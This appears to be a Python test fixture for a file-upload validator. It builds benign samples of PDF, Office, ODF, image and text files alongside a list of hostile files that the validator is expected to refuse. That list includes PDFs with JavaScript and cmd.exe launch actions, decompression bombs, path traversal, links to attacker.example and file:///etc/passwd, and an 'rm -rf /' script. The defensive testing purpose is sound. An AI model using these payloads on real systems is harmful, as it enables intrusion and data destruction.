"""Files as people attach them, made here: one of each format, and their hostile likenesses."""

import io
import zipfile
import zlib

from docx import Document
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject, TextStringObject
from xlsxwriter import Workbook

TYPES = "[Content_Types].xml"
XML = b'<?xml version="1.0" encoding="UTF-8"?>'
SECRET = "KEN-CAMERA-7"  # stands in what a camera writes beside a picture


def pdf(change=lambda writer: None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def docx() -> bytes:
    document, out = Document(), io.BytesIO()
    document.add_paragraph("Evidence")
    document.save(out)
    return out.getvalue()


def xlsx() -> bytes:
    out = io.BytesIO()
    book = Workbook(out)
    book.add_worksheet().write("A1", "Evidence")
    book.close()
    return out.getvalue()


def container(parts: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def types(mark: str) -> bytes:
    kind = f"application/vnd.openxmlformats-officedocument.{mark}.main+xml"
    return XML + f'<Types><Override PartName="/x" ContentType="{kind}"/></Types>'.encode()


def pptx(**more: bytes) -> bytes:
    parts = {TYPES: types("presentationml.presentation"), "ppt/presentation.xml": XML + b"<p/>"}
    return container(parts | more)


def package(mark: str = "wordprocessingml.document", **more: bytes) -> bytes:
    """A package of Word, or another, with more parts; "__" in a name is a slash."""
    named = {name.replace("__", "/"): content for name, content in more.items()}
    return container({TYPES: types(mark), "word/document.xml": XML + b"<d/>"} | named)


def odt(body: bytes = b"<text/>", **more: bytes) -> bytes:
    named = {name.replace("__", "/"): content for name, content in more.items()}
    mark = b"application/vnd.oasis.opendocument.text"
    return container({"mimetype": mark, "content.xml": XML + body} | named)


def picture(form: str = "JPEG", size=(60, 40), **options) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "teal").save(out, form, **options)
    return out.getvalue()


def photograph(orientation: int = 1) -> bytes:
    """A picture as a camera writes it: turned, with its camera, its place and a comment."""
    exif = Image.Exif()
    exif[0x0112], exif[0x0110] = orientation, SECRET
    exif.get_ifd(0x8825)[1] = "S"
    return picture(exif=exif, comment=SECRET.encode())


CSV = "party,amount\nKenya,12\nCôte d’Ivoire,7\n".encode()
GOOD = {
    "report.pdf": pdf(),
    "Rapport d’activité 2017.v2.docx": docx(),
    "figures.xlsx": xlsx(),
    "slides.pptx": pptx(),
    "text.odt": odt(),
    "photo.jpg": photograph(),
    "photo.JPEG": picture(),
    "map.png": picture("PNG"),
    "map.webp": picture("WEBP"),
    "flows.csv": CSV,
    "تقرير.pdf": pdf(),
    "notes.txt": "Été".encode("cp1252"),
    "notes-utf16.txt": "Été".encode("utf-16"),
}


def _object(values: dict) -> DictionaryObject:
    return DictionaryObject({NameObject(key): value for key, value in values.items()})


def _javascript(writer: PdfWriter) -> None:
    action = {"/S": NameObject("/JavaScript"), "/JS": TextStringObject("app.alert(1)")}
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(_object(action))


def _launch(writer: PdfWriter) -> None:
    action = {"/S": NameObject("/Launch"), "/F": TextStringObject("cmd.exe")}
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(_object(action))


def _attachment(writer: PdfWriter) -> None:
    writer.add_attachment("payload.exe", b"MZ")


def _form(writer: PdfWriter) -> None:
    stream = DecodedStreamObject()
    stream.set_data(b"<xdp/>")
    form = _object({"/XFA": writer._add_object(stream)})
    writer.root_object[NameObject("/AcroForm")] = form


def locked_pdf() -> bytes:
    return pdf(lambda writer: writer.encrypt("secret", algorithm="RC4-128"))


def png_of(width: int, height: int) -> bytes:
    """A few bytes that say that they are a picture of this size."""

    def chunk(name: bytes, content: bytes) -> bytes:
        crc = zlib.crc32(name + content)
        return len(content).to_bytes(4, "big") + name + content + crc.to_bytes(4, "big")

    size = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\x02\x00\x00\x00"
    data = zlib.compress(bytes(1000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def outside(kind: str) -> bytes:
    target = "http://attacker.example/x"
    return f'<R><Relationship Type="{kind}" Target="{target}" TargetMode="External"/></R>'.encode()


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
HTML = b"<!DOCTYPE html><script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
BOMB = container({TYPES: types("wordprocessingml.document"), "word/a.xml": b"<" * 160_000_000})
# Each is refused, and with this reason: the name, the content, the code of the reason.
HOSTILE = [
    ("page.html", HTML, "format"),
    ("picture.svg", SVG, "format"),
    ("program.exe", b"MZ\x90", "format"),
    ("script.js", b"alert(1)", "format"),
    ("archive.zip", container({"a": b"a"}), "format"),
    ("macros.docm", docx(), "format"),
    ("old.doc", OLE, "format"),
    ("animation.gif", b"GIF89a", "format"),
    ("noending", pdf(), "format"),
    (".pdf", pdf(), "format"),
    ("invoice.pdf.exe", b"MZ", "format"),
    ("invoice.exe.pdf", pdf(), "endings"),
    ("photo.html.jpg", picture(), "endings"),
    ("report.JS .pdf", pdf(), "endings"),
    ("nothing.pdf", b"", "empty"),
    ("nothing.csv", b"", "empty"),
    ("large.csv", b"a" * (20 * 1024**2 + 1), "size"),
    ("large.pdf", pdf() + b" " * 20 * 1024**2, "size"),
    ("page.pdf", HTML, "content"),
    ("later.pdf", b"\n\n" + pdf(), "content"),
    ("picture.pdf", picture(), "content"),
    ("cut.pdf", pdf()[:-300], "damaged"),
    ("page-behind.pdf", pdf() + HTML, "damaged"),
    ("archive-behind.pdf", pdf() + container({"a": b"a"}), "damaged"),
    ("only-marks.pdf", b"%PDF-1.7\n%%EOF", "damaged"),
    ("javascript.pdf", pdf(_javascript), "scripts"),
    ("launch.pdf", pdf(_launch), "scripts"),
    ("form.pdf", pdf(_form), "scripts"),
    ("carrier.pdf", pdf(_attachment), "files_inside"),
    ("locked.pdf", locked_pdf(), "locked"),
    ("bomb.docx", BOMB, "too_big"),
    ("many-parts.docx", package(**{f"p{n}": b"" for n in range(2001)}), "too_big"),
    ("macro.docx", package(word__vbaProject=b""), "macros"),
    ("active.docx", package(**{"word/activeX/activeX1.xml": b"<a/>"}), "macros"),
    ("embedded.docx", package(**{"word/embeddings/oleObject1.bin": OLE}), "macros"),
    ("embedded.pptx", pptx(**{"ppt/embeddings/a.xlsx": OLE + bytes(600)}), "old"),
    ("embedded-macro.pptx", pptx(**{"ppt/embeddings/a.xlsx": package(
        "spreadsheetml.sheet", xl__vbaProject=b"x")}), "macros"),
    ("program.docx", package(**{"word/media/a.exe": b"MZ"}), "macros"),
    ("sheet4.xlsx", package("spreadsheetml.sheet", **{"xl/macrosheets/s.xml": b"<a/>"}), "macros"),
    ("template.docx", package(**{"word/_rels/settings.xml.rels": outside("x/attachedTemplate")}),
     "links"),
    ("entity.docx", package(**{"word/x.xml": XML + b'<!DOCTYPE a [<!ENTITY b "c">]><a/>'}),
     "damaged"),
    ("utf16.docx", package(**{"word/x.xml": "<a/>".encode("utf-16")}), "damaged"),
    ("path.docx", package(**{"../../evil.xml": b"<a/>"}), "damaged"),
    ("behind.docx", docx() + HTML, "damaged"),
    ("word.xlsx", docx(), "content"),
    ("sheet.docx", xlsx(), "content"),
    ("archive.docx", container({"a": b"a"}), "content"),
    ("page.docx", HTML, "content"),
    ("old.docx", OLE + bytes(600), "old"),
    ("encrypted.docx", OLE + "EncryptedPackage".encode("utf-16-le"), "locked"),
    ("macro.odt", odt(Basic__Standard__a=b"x"), "macros"),
    ("fetching.odt", odt(b'<draw:image xlink:href="http://attacker.example/x"/>'), "links"),
    ("local.odt", odt(b'<draw:image xlink:href="file:///etc/passwd"/>'), "links"),
    ("word.odt", docx(), "content"),
    ("page.jpg", HTML, "content"),
    ("picture.jpg", picture("PNG"), "content"),
    ("cut.jpg", picture(size=(900, 900))[:900], "damaged"),
    ("bomb.png", png_of(50_000, 50_000), "pixels"),
    ("page.csv", b"\n <html><script>alert(1)</script>", "content"),
    ("svg.txt", SVG, "content"),
    ("page16.txt", HTML.decode().encode("utf-16"), "content"),
    ("program.csv", b"MZ\x90\x00\x03", "content"),
    ("pdf.csv", b"%PDF-1.7", "content"),
    ("shell.txt", b"#!/bin/sh\nrm -rf /", "content"),
]  # fmt: skip
